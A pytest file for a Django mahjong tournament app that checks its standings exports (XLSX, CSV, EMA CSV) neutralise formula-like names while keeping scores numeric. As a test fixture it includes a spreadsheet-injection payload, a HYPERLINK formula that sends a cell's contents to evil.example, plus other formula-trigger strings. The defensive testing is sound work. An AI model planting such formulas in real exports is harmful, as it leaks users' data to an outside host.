"""No standings download holds a formula made from a name; numbers stay numbers.

Players are renamed to formula-like text straight in the database (as an old
or imported name could be), then every download is read back as a spreadsheet
would: the XLSX with openpyxl and its raw sheet XML, the CSVs with ``csv``.
"""

import csv
import io
import zipfile
from decimal import Decimal
from fractions import Fraction

import openpyxl
import pytest
from django.urls import reverse

from tournament.events.models import Registration
from tournament.exports_safety import safe_row, safe_text, safe_xlsx_row
from tournament.seating.models import Round
from tournament.standings.services import publish_results

ROUND_1 = [[45300, 31700, 24600, 18400], [35000, 35000, 30000, 20000]]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"click")'
# name, club of the first five players
NAMES = [
    (HYPERLINK, "+SUM(1,2)"),
    ("-1", "@cmd"),
    ("＝1+1", "－2"),
    ("\tTab", "\rReturn"),
    ("Anna =Evil", "＋3"),
]
NEUTRAL = {text: "'" + text for pair in NAMES for text in pair}
NEUTRAL["Anna =Evil"] = "Anna =Evil"  # starts with a letter: nothing to do


@pytest.fixture
def riichi(tournament):
    built = tournament("jpml-b", tables=2, rounds=1)
    built.play_round(1, ROUND_1)
    publish_results(Round.objects.get(event=built.event, number=1))
    for registration, (name, club) in zip(built.registrations, NAMES, strict=False):
        Registration.objects.filter(pk=registration.pk).update(name=name, club=club)
    return built


def staff(client, built, name):
    client.force_login(built.users["viewer"])
    return client.get(reverse(f"standings:{name}", args=[built.event.slug]))


def public(client, built, path):
    return client.get(f"/e/{built.event.slug}/{path}")


def download(client, built, who, path, name):
    """The export as ``who`` gets it: the public at ``path`` under the event, staff by view."""
    return public(client, built, path) if who == "public" else staff(client, built, name)


def read_csv(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


# --- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "＋1", "－1", "＠x"]
)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Anna", "山田 太郎", "1=1", "'=1", " x", "7/3"])
def test_other_text_is_left_alone(text):
    assert safe_text(text) == text


def test_numbers_are_never_quoted():
    cells = [-25, -4.5, Decimal("-4.5"), Fraction(-7, 3), None, "-25"]
    assert safe_row(cells) == [-25, -4.5, Decimal("-4.5"), Fraction(-7, 3), None, "'-25"]


def test_an_xlsx_row_holds_no_character_xml_cannot():
    assert safe_xlsx_row(["a\x00b\x07", "=x\x1f", "ok\tfine", 3]) == [
        "a\ufffdb\ufffd",
        "'=x\ufffd",
        "ok\tfine",
        3,
    ]


# --- XLSX --------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["public", "staff"])
def test_xlsx_has_no_formula_and_numbers_stay_numbers(client, riichi, who):
    response = download(client, riichi, who, "standings.xlsx", "staff_xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert rows[0][1].value == "Player" and rows[0][5].value == "Result points"
    assert all(cell.data_type != "f" for row in rows for cell in row)
    by_name = {row[1].value: row for row in rows[1:]}
    for name, club in NAMES:
        row = by_name[NEUTRAL[name]]
        assert row[1].data_type == "s" and row[2].data_type == "s"
        assert row[2].value == NEUTRAL[club].replace("\r", "\n")  # XML reads a CR as LF
    points = [row[5].value for row in rows[1:]]
    assert all(isinstance(value, int | float) for value in points)
    assert min(points) < 0  # a negative score is a number, not quoted text
    assert all(row[5].data_type == "n" and row[6].data_type == "n" for row in rows[1:])


def test_a_control_character_in_an_old_name_does_not_break_the_xlsx(client, riichi):
    Registration.objects.filter(pk=riichi.registrations[5].pk).update(name="Bell\x07 Player")
    response = public(client, riichi, "standings.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "Bell\ufffd Player" in [row[1] for row in sheet.iter_rows(values_only=True)]


# --- CSV and EMA CSV ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["public", "staff"])
def test_csv_quotes_formula_text_and_keeps_numbers(client, riichi, who):
    response = download(client, riichi, who, "standings.csv", "staff_csv")
    header, *rows = read_csv(response)
    assert header[:2] == ["Rank", "Player"]
    by_name = {row[1]: row for row in rows}
    assert set(by_name) >= {NEUTRAL[name] for name, _club in NAMES}
    for name, club in NAMES:
        assert by_name[NEUTRAL[name]][2] == NEUTRAL[club]
    points = [float(row[5]) for row in rows]  # plain numbers, no quote in front
    assert min(points) < 0
    assert all(float(row[6]) == int(row[6]) for row in rows)  # the raw points too


@pytest.mark.parametrize("who", ["public", "staff"])
def test_ema_csv_quotes_formula_names(client, riichi, who):
    response = download(client, riichi, who, "standings-ema.csv", "staff_ema_results")
    _header, *rows = read_csv(response)
    last_names = {row[2] for row in rows}
    assert "'-1" in last_names and "'＝1+1" in last_names and "'=Evil" in last_names
    formula = ("=", "+", "@", "＝", "＋", "＠")
    assert all(not cell.startswith(formula) for row in rows for cell in row)
    scores = [int(row[6]) for row in rows]  # plain whole numbers, no quote in front
    assert min(scores) < 0  # riichi: result points x 1000, negative for the last places
